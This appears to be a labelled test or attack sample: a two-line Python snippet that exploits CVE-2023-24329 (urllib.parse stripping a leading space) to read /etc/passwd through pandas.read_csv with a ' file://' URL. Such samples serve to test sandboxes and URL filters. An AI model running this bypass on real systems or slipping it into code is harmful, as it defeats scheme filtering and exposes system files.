# source: urllib.parse strips leading C0 control/space characters (CVE-2023-24329)
# family: URL with leading space/control char
# goal: read /etc/passwd
import pandas as pd
print(pd.read_csv(" file:///etc/passwd", header=None, sep="\t").to_string())
